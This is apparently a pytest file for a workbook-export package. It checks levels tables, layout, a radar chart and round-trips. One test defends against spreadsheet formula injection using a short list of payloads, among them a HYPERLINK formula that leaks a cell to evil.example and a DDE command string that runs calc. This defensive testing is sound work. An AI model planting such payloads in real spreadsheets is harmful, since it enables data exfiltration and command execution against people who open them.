"""Workbooks: hand-worked levels read back, the spreadsheet guidance, the live radar chart, injection."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qio_analysis.export.validation import validator_workbook
from qio_analysis.export.workbooks import (
    WorkbookContext,
    organisation_workbook,
    save_workbook,
    validator_workbook_path,
)
from qio_analysis.io.writers import workbook_bytes
from tests.metrics.helpers import both, subs

CONTEXT = WorkbookContext(sources=["fixture.csv"], version="9.9", demo=True, made="1 January 2026")


def _load(book):
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))


def _table(book, sheet):
    """The one Excel table on ``sheet`` as a frame (header row = columns)."""
    ws = book[sheet]
    (table,) = ws.tables.values()
    rows = [[c.value for c in row] for row in ws[table.ref]]
    return pd.DataFrame(rows[1:], columns=rows[0], dtype=object)


def test_organisation_workbook_levels_read_back_as_hand_worked(london):
    book = _load(organisation_workbook(london, "ZZA", 2025, CONTEXT))
    levels = _table(book, "Levels")
    assert levels["Outcome number"].tolist() == [1, 2, 3, 4, 5, 6]
    assert levels["Self-evaluated level 2025"].tolist() == [2, 3, 2, 2, 2, 2]
    assert levels["Self-evaluated sub-level 2025"].tolist() == ["High"] + [None] * 5
    assert levels["Validated level 2025"].tolist() == [2, 2, 2, 2, 2, 2]
    assert levels["Validated sub-level 2025"].tolist() == ["Medium"] + [None] * 5
    assert levels["Changed by validator"].tolist() == ["Yes", "Yes", "No", "No", "No", "No"]
    assert levels["Validated level 2023"].tolist() == [1] * 6
    assert levels["Validated sub-level 2023"].tolist() == [None, "High", None, None, None, None]
    cover = [c.value for c in book["Cover"]["A"]]
    assert any("Org A (ZZA)" in str(v) for v in cover)
    assert any("Synthetic demo data" in str(v) for v in cover)
    assert any("qio-analysis 9.9" in str(v) for v in cover)
    assert "Status: Validated" in cover


def test_awaiting_validation_is_provisional_and_blank_not_zero(london):
    book = _load(organisation_workbook(london, "ZZB", 2025, CONTEXT))
    levels = _table(book, "Levels")
    assert levels["Validated level 2025"].tolist() == [1, 1, 1, 1, 1, None]
    assert levels["Changed by validator"].tolist() == ["No"] * 5 + [None]
    assert any("awaiting validation" in str(c.value) for c in book["Cover"]["A"])
    assert "Validated level 2023" not in levels.columns  # B did not take part in 2023


def test_validator_workbook_hand_worked(london):
    book = _load(validator_workbook(london, None, 2025, "London", CONTEXT))
    levels = _table(book, "Levels").set_index("Organisation code")
    assert levels.loc["ZZA", "Status"] == "Validated"
    assert levels.loc["ZZB", "Status"] == "Awaiting validation"
    assert levels.loc["ZZA", "Outcome 1 changed by validator"] == "Yes"
    assert levels.loc["ZZA", "Outcome 2 validated level"] == 2
    assert levels.loc["ZZA", "Outcome 2 change since 2023"] == 1  # 1 High -> 2: one whole level
    assert levels.loc["ZZA", "Outcome 3 change since 2023"] == 1
    assert levels.loc["ZZB", "Outcome 1 change since 2023"] is None  # new this cycle
    assert levels.loc["ZZB", "Outcome 6 validated level"] is None
    agreement = _table(book, "Agreement").set_index("Outcome")
    assert agreement.loc["1 Access", "Pairs compared"] == 2
    assert agreement.loc["1 Access", "Exact agreement on level (%)"] == pytest.approx(100)
    # Outcome 1: A's sub-level lowered (2 High to 2 Medium), B unchanged: 1 of 2 agree.
    one = agreement.loc["1 Access"]
    assert one["Exact agreement on level and sub-level (% of compared)"] == pytest.approx(50)
    assert (one["Sub-levels lowered (same level)"], one["Levels lowered"]) == (1, 0)
    # Outcome 2: A's level lowered (3 to 2), counted, never averaged.
    two = agreement.loc["2 Evidence in decisions"]
    assert (two["Levels lowered"], two["Sub-levels lowered (same level)"]) == (1, 0)
    assert not [c for c in agreement.columns if "Mean" in c]
    assert agreement.loc["All outcomes", "Pairs compared"] == 11
    assert agreement.loc["All outcomes", "Exact agreement on level (%)"] == pytest.approx(1000 / 11)
    assert levels.loc["ZZA", "Changed by validator"] == "Yes"
    assert levels.loc["ZZA", "Outcomes changed by validator"] == "1, 2"
    assert levels.loc["ZZB", "Changed by validator"] == "No"
    assert levels.loc["ZZB", "Outcomes changed by validator"] is None
    worklist = _table(book, "Worklist")
    assert worklist["Organisation code"].tolist() == ["ZZB", "ZZA"]  # awaiting first
    assert worklist["Status"].tolist() == ["awaiting validation", "validated"]


def test_validator_workbook_sheets_in_order_with_their_counts(london):
    book = _load(validator_workbook(london, None, 2025, "London", CONTEXT, run_date="2025-06-01"))
    assert book.sheetnames == [
        "Cover",
        "Contents",
        "Notes",
        "Levels",
        "Adjustments",
        "Worklist",
        "Agreement",
        "Required_actions",
    ]
    # A: outcome 1 sub-level lowered, outcome 2 level lowered, of 11 outcomes with both levels.
    assert book["Adjustments"]["A1"].value.endswith("London, 2025: 2 of 11 [note 2]")
    worklist = " ".join(str(c.value) for c in book["Worklist"]["A"] if c.value)
    assert "1 awaiting validation, 0 not submitted, 1 validated." in worklist
    assert "to 1 June 2025" in worklist


def test_validator_workbook_lists_every_adjustment_and_days_waiting(london):
    dated = london.assign(
        submitted=london["org_code"].map(
            {"ZZA": pd.Timestamp("2025-04-20"), "ZZB": pd.Timestamp("2025-05-01")}
        )
    ).astype({"submitted": "datetime64[ns]"})
    book = _load(validator_workbook(dated, None, 2025, "London", CONTEXT, run_date="2025-06-01"))
    adjustments = _table(book, "Adjustments")
    # Hand-worked: A's outcome 1 (2 High to 2 Medium) and outcome 2 (3 to 2); 11 pairs compared.
    assert adjustments[
        ["Organisation code", "Outcome", "Kind of change", "Change"]
    ].values.tolist() == [
        [
            "ZZA",
            "1 Access",
            "Sub-level lowered",
            "sub-level lowered within Level 2 (High to Medium)",
        ],
        ["ZZA", "2 Evidence in decisions", "Level lowered", "lowered 1 level"],
    ]
    assert adjustments["Change (whole levels)"].tolist() == [0, -1]
    assert adjustments["Self-evaluated level"].tolist() == [2, 3]
    assert adjustments["Validated sub-level"].tolist() == ["Medium", None]
    assert "2 of 11" in book["Adjustments"]["A1"].value
    description = " ".join(str(c.value) for c in book["Adjustments"]["A"][:4] if c.value)
    assert "1 level lowered and 0 raised; 1 sub-level lowered and 0 raised" in description
    worklist = _table(book, "Worklist").set_index("Organisation code")
    assert worklist.loc["ZZB", "Days waiting"] == 31  # 1 May to 1 June
    assert worklist.loc["ZZA", "Days waiting"] is None  # validated: not waiting
    assert worklist.loc["ZZB", "Submitted"] == dt.datetime(2025, 5, 1)
    assert book["Worklist"]["E5"].number_format == "dd/mm/yyyy"
    assert "to 1 June 2025" in book["Worklist"]["A3"].value


def test_england_workbook_path_and_region_slug():
    assert validator_workbook_path(2025, None) == "2025/workbooks/england.xlsx"
    assert validator_workbook_path(2025, "North East and Yorkshire") == (
        "2025/workbooks/north-east-and-yorkshire.xlsx"
    )


@pytest.mark.parametrize("kind", ["organisation", "validator"])
def test_layout_follows_the_spreadsheet_guidance(london, kind):
    made = (
        organisation_workbook(london, "ZZA", 2025, CONTEXT)
        if kind == "organisation"
        else validator_workbook(london, None, 2025, "London", CONTEXT)
    )
    book = _load(made)
    assert book.sheetnames[:3] == ["Cover", "Contents", "Notes"]
    assert book.active.title == "Cover"
    assert book.properties.title and book.properties.language == "en-GB"
    contents = _table(book, "Contents")
    assert contents["Sheet name"].tolist() == book.sheetnames[2:]
    for ws in book.worksheets:
        assert not ws.merged_cells.ranges, ws.title
        assert all(sel.activeCell == "A1" for sel in ws.sheet_view.selection), ws.title
        if ws.title in {"Cover", "Radar_chart"}:
            continue
        assert len(ws.tables) == 1, ws.title
        (table,) = ws.tables.values()
        rows = [[c.value for c in row] for row in ws[table.ref]]
        header = rows[0]
        assert all(isinstance(h, str) and h for h in header) and len(set(header)) == len(header)
        assert all(any(v is not None for v in row) for row in rows[1:]), f"blank row in {ws.title}"
        first_data_row = int(re.match(r"[A-Z]+(\d+)", table.ref).group(1)) + 1
        # Code and name stay in view on the validators' sheets of organisations.
        by_organisation = {"Levels", "Adjustments", "Worklist"}
        frozen = "C" if kind == "validator" and ws.title in by_organisation else "A"
        assert ws.freeze_panes == f"{frozen}{first_data_row}", ws.title
        assert table.autoFilter is not None and table.autoFilter.ref == table.ref  # filters
    cited = " ".join(
        str(c.value)
        for ws in book.worksheets
        if ws.title != "Notes"
        for row in ws.iter_rows()
        for c in row
    )
    notes = _table(book, "Notes")
    assert notes["Note number"].tolist() == [f"[note {n}]" for n in range(1, len(notes) + 1)]
    for number in range(1, len(notes) + 1):
        assert f"[note {number}]" in cited  # every note is cited somewhere


def test_levels_are_formatted_by_level_with_the_number_kept(london):
    book = _load(organisation_workbook(london, "ZZA", 2025, CONTEXT))
    ws = book["Levels"]
    rules = [r for cf in ws.conditional_formatting for r in cf.rules]
    assert sorted({r.formula[0] for r in rules}) == ["0", "1", "2", "3", "4"]
    assert isinstance(ws["C5"].value, int)  # the level stays in the cell as a number


def test_radar_chart_is_native_and_reads_the_level_cells(london):
    data = workbook_bytes(organisation_workbook(london, "ZZA", 2025, CONTEXT))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = z.read(charts[0]).decode()
    assert re.search(r"<(c:)?radarChart>", xml)
    # Title in row 1, two description lines, header in row 4, outcomes in rows 5-10; validated = column E.
    assert re.search(r"'?Levels'?!\$E\$5:\$E\$10", xml)
    assert re.search(r"'?Levels'?!\$C\$5:\$C\$10", xml)
    assert re.search(r"'?Levels'?!\$B\$5:\$B\$10", xml)  # categories: outcome names


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_is_a_formula_even_with_a_hostile_name(london, tmp_path, name):
    hostile = london.assign(org_name=london["org_name"].where(london["org_code"] != "ZZA", name))
    paths = [
        save_workbook(organisation_workbook(hostile, "ZZA", 2025, CONTEXT), tmp_path / "org.xlsx"),
        save_workbook(
            validator_workbook(hostile, None, 2025, "London", CONTEXT), tmp_path / "region.xlsx"
        ),
    ]
    for path in paths:
        book = openpyxl.load_workbook(path)
        seen = False
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    seen |= isinstance(cell.value, str) and name.lstrip("=+@'") in cell.value
        assert seen, f"the name should still be there as text in {path.name}"


LEVEL = st.one_of(
    st.tuples(st.none(), st.none()),
    st.tuples(st.integers(0, 4), st.sampled_from([None, "Low", "Medium", "High"])),
)


@pytest.mark.slow  # seconds of examples or files: not the fast layer
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(LEVEL, LEVEL, LEVEL), min_size=6, max_size=6))
def test_round_trip_gives_the_tidy_levels(levels):
    rows = []
    for o, (before, self_, validated) in enumerate(levels, start=1):
        rows += both("A", "London", 2023, o, before, before)
        rows += both("A", "London", 2025, o, self_, validated)
    tidy = subs(rows)
    book = _load(organisation_workbook(tidy, "ZZA", 2025, CONTEXT))
    table = _table(book, "Levels")
    for o, (before, self_, validated) in enumerate(levels, start=1):
        row = table.iloc[o - 1]
        assert (row["Self-evaluated level 2025"], row["Self-evaluated sub-level 2025"]) == self_
        assert (row["Validated level 2025"], row["Validated sub-level 2025"]) == validated
        assert (row["Validated level 2023"], row["Validated sub-level 2023"]) == before
